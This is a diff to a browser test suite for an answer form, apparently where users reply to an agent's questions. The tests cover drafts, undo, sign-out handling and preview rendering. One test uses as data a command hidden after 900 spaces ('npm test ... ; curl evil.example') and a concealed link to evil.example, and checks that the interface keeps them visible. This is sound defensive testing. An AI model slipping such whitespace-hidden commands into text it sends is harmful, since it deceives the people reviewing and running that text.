@@ -17,7 +17,7 @@ alone('undo shows what was sent, not an older draft', async w => {
   await p.click('text=PostgreSQL');
   await saved(p);
   await p.click('text=SQLite');
-  await p.click('text=Send answer'); // before the draft of it is saved
+  await p.click('.bar >> text=Send answer'); // before the draft of it is saved
   await shown(p, 'Answered by you');
   await p.click('text=Undo answer');
   await p.waitForSelector('#form');
@@ -37,7 +37,7 @@ alone('a draft that comes after an undo changes nothing', async w => {
     p.click('text=PostgreSQL'),
   ]);
   await p.click('text=SQLite');
-  await p.click('text=Send answer');
+  await p.click('.bar >> text=Send answer');
   await shown(p, 'Answered by you');
   await p.click('text=Undo answer');
   await p.waitForSelector('#form');
@@ -60,16 +60,20 @@ alone('a form that cannot be sent stays, says so, and can be sent again', async 
     await p.fill(area, 'two words, ');
     await cut();
     await p.locator(area).pressSequentially('and more');
-    await p.click('text=Send answer');
-    await shown(p, 'This may not have been sent: there was no reply');
-    assert.equal(await p.evaluate(() => document.activeElement.id), 'failed', 'the focus is on the message');
+    await p.click('.bar >> text=Send answer');
+    await shown(p, 'Waiting to send.');
+    assert.equal(await p.evaluate(() => document.activeElement.id), 'queued', 'the focus is on the message');
     assert.equal(await p.inputValue(area), 'two words, and more');
+    await p.click('text=Do not send');
+    await p.locator(area).pressSequentially('!');
     await p.reload().catch(() => {});
     await mend();
     await show(w, p, path);
-    assert.equal(await p.inputValue(area), 'two words, and more', 'a reload loses nothing');
+    assert.equal(await p.inputValue(area), 'two words, and more!', 'a reload loses nothing');
+    await p.fill(area, '');
   }
-  await p.click('text=Send answer');
+  await p.fill(area, 'two words, and more');
+  await p.click('.bar >> text=Send answer');
   await shown(p, '“two words, and more”');
   assert.deepEqual(await p.evaluate(stored), [], 'the hub has it: the browser keeps nothing');
 });
@@ -83,7 +87,7 @@ alone('the end of a session is said, and loses nothing', async w => {
   await p.context().clearCookies();
   await p.locator(area).pressSequentially(' second');
   await shown(p, 'Draft not saved: you are signed out');
-  await p.click('text=Send answer');
+  await p.click('.bar >> text=Send answer');
   await shown(p, 'Not sent: you are signed out');
   const [tab] = await Promise.all([p.waitForEvent('popup'), p.click('#out >> text=Sign in')]);
   await tab.waitForURL(w.base + '/login');
@@ -91,7 +95,7 @@ alone('the end of a session is said, and loses nothing', async w => {
   assert.equal(tab.url(), w.base + path); // the text is there in a second tab
   assert.equal(await tab.inputValue(area), 'first second');
   await tab.close();
-  await p.click('text=Send answer');
+  await p.click('.bar >> text=Send answer');
   await shown(p, '“first second”');
 });
 
@@ -117,7 +121,7 @@ alone('a session that is ended elsewhere is said at once, and loses nothing', as
   assert.equal(await tab.inputValue(area), 'first second');
   await tab.close();
   assert.equal(await p.inputValue(area), 'first second');
-  await p.click('text=Send answer');
+  await p.click('.bar >> text=Send answer');
   await shown(p, '“first second”');
   await p.waitForSelector('#out', { state: 'hidden' });
   assert.deepEqual(p.problems.filter(t => !t.includes('401')), []);
@@ -130,6 +134,7 @@ alone('a link to a question survives signing in, also in another tab', async w =
   assert.equal(p.url(), w.base + '/login');
   await w.login(p);
   assert.equal(p.url(), w.base + path);
+  await p.click('#menu > summary');
   await p.click('text=Sign out');
   await p.waitForURL(w.base + '/login');
   await p.goto(w.base + path);
@@ -146,13 +151,13 @@ alone('without JavaScript, the end of a session hands the text back', async w =>
   await p.fill('textarea[name=t1]', '\n two lines\nof text ');
   const cookies = await p.context().cookies();
   await p.context().clearCookies();
-  await p.click('text=Send 2 answers');
+  await p.click('.bar >> text=Send 2 answers');
   await shown(p, 'You are signed out');
   assert.equal(await p.inputValue('textarea[name=t1]'), '\n two lines\nof text ');
   await p.context().addCookies(cookies);
   await p.click('text=Continue with this answer');
   await shown(p, 'Nothing was sent yet');
-  await p.click('text=Send 2 answers');
+  await p.click('.bar >> text=Send 2 answers');
   await shown(p, 'Answered by you');
   const { outcome } = await w.state(path);
   assert.deepEqual(outcome.answers, [{ questionId: 'q1', selected: ['o2'] }, { questionId: 'q2', other: '\n two lines\nof text ' }]);
@@ -164,13 +169,13 @@ alone('without JavaScript, a form that cannot be sent is there when you go back'
   await show(w, p, path);
   await p.fill(area, 'typed by hand');
   await w.tell('kill');
-  await p.click('text=Send answer').catch(() => {});
+  await p.click('.bar >> text=Send answer').catch(() => {});
   await p.waitForURL(/^chrome-error:/); // the browser says so itself
   await w.tell('revive');
   await p.goBack();
   await p.waitForSelector('#form');
   // The browser fills the form in after it has shown it.
-  for (const end = Date.now() + 5000; Date.now() < end && await p.inputValue(area) === '';) await pause(50);
+  for (const end = Date.now() + 30_000; Date.now() < end && await p.inputValue(area) === '';) await pause(50);
   assert.equal(await p.inputValue(area), 'typed by hand');
 });
 
@@ -188,7 +193,7 @@ alone('two tabs type into the same form: neither loses what the other has', asyn
   await a.reload();
   assert.equal(await a.inputValue(area), 'from the second tab');
   assert.equal(await a.inputValue('.unsent textarea'), 'from the first tab');
-  await b.click('text=Send answer');
+  await b.click('.bar >> text=Send answer');
   await shown(a, 'Answered by you');
   await shown(a, 'What you typed');
   assert.equal(await a.inputValue('.unsent textarea'), 'from the first tab');
@@ -265,7 +270,7 @@ alone('nothing is sent before its end was on the screen', async w => {
   for (const last of ['line 300 of 300', 'line 200 of 200']) {
     for (let i = 0; !(await on(last)); i++) {
       assert.ok(i < 5, last);
-      await p.click('text=Send answer');
+      await p.click('.bar >> text=Send answer');
       await shown(p, 'Not sent yet: you had not seen everything');
       await p.waitForFunction(() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => done(true)))));
     }
@@ -280,7 +285,7 @@ alone('nothing is hidden sideways, and every preview opens without choosing', as
   const path = await w.put({ ...database, body: 'Before it:\n\n- [x] tests pass\n- [ ] backup made\n\n```\nnpm test' + ' '.repeat(900) + '; curl evil.example\n```\n\n<div>\nraw <b>text</b>\n</div>\n\n[hidden]: https://evil.example "a title"' });
   await show(w, p, path);
   assert.ok(await p.evaluate(() => document.documentElement.scrollWidth <= innerWidth && [...document.querySelectorAll('pre, .md, .card')].every(e => e.scrollWidth <= e.clientWidth + 1)));
-  for (const text of ['[x] tests pass', '[ ] backup made', '; curl evil.example', 'raw <b>text</b>']) assert.ok((await p.innerText('.md')).includes(text), text);
+  for (const text of ['☑ tests pass', '☐ backup made', '; curl evil.example', 'raw <b>text</b>']) assert.ok((await p.innerText('.md')).includes(text), text);
   await p.click('text=Show this text as it was sent');
   assert.ok((await p.innerText('.source pre')).includes('[hidden]: https://evil.example "a title"'));
   await p.click('summary >> text=Preview');
@@ -308,7 +313,7 @@ alone('undo is offered only where it works', async w => {
   const path = await w.put(words);
   await show(w, p, path);
   await p.fill(area, 'x');
-  await p.click('text=Send answer');
+  await p.click('.bar >> text=Send answer');
   await shown(p, 'You can undo until the agent receives it');
   await w.tell('consume ' + path);
   await shown(p, 'You can no longer undo this answer');
